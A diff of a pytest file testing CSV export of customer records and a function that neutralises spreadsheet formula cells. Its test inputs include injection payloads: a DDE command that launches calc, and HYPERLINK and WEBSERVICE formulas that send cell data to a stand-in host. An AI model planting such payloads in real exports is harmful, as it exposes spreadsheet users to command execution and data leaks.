@@ -81,19 +81,32 @@ def test_customers_csv_reads_back_with_semicolons_and_accents():
     assert record["address"] == "Via Sàvena; lato nord"
     assert record["municipality"] == "Castel San Pietro Terme"
     assert (record["reachable"], record["reason"]) == ("no", "no_phone")
+    # Numbers stay dialable: a phone cannot run anything, and an apostrophe would show.
     assert dict(zip(header, second))["phones"] == "+393331234567, +393387654321"
 
 
 def test_phones_are_masked_in_exports_for_others():
     data = customers_csv([affected("c", phones=["+393331234567"])], mask_phones=True)
     header, row = read_back(data)
-    assert dict(zip(header, row))["phones"] == "+39 333 ***4567", "no apostrophe to show"
+    assert dict(zip(header, row))["phones"] == "+39 333 ***4567"
     assert b"1234567" not in data
 
 
 @pytest.mark.parametrize(
     "dangerous",
-    ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=x", "+39 333, =1", "+1+2"],
+    [
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=x",
+        "\r=x",
+        '=HYPERLINK("http://x.example/?"&A1;"clic")',
+        "  =cmd|' /C calc'!A0",
+        "+39 333 1234567 =1",
+        'of:=WEBSERVICE("http://x.example")',
+        "OF:=1",
+    ],
 )
 def test_formula_cells_are_neutralised(dangerous):
     assert safe_cell(dangerous) == "'" + dangerous
@@ -101,7 +114,20 @@ def test_formula_cells_are_neutralised(dangerous):
     assert dict(zip(header, row))["address"] == "'" + dangerous
 
 
-@pytest.mark.parametrize("harmless", ["Via Emilia", "12", "Sant'Agata", ""])
+@pytest.mark.parametrize(
+    "harmless",
+    [
+        "Via Emilia",
+        "12",
+        "Sant'Agata",
+        "",
+        "+393331234567",
+        "+393331234567;+393387654321",
+        "+39 333 ***4567, +39 338 ***4321",
+        "-12.5",
+        "-3",
+    ],
+)
 def test_ordinary_cells_are_unchanged(harmless):
     assert safe_cell(harmless) == harmless
 
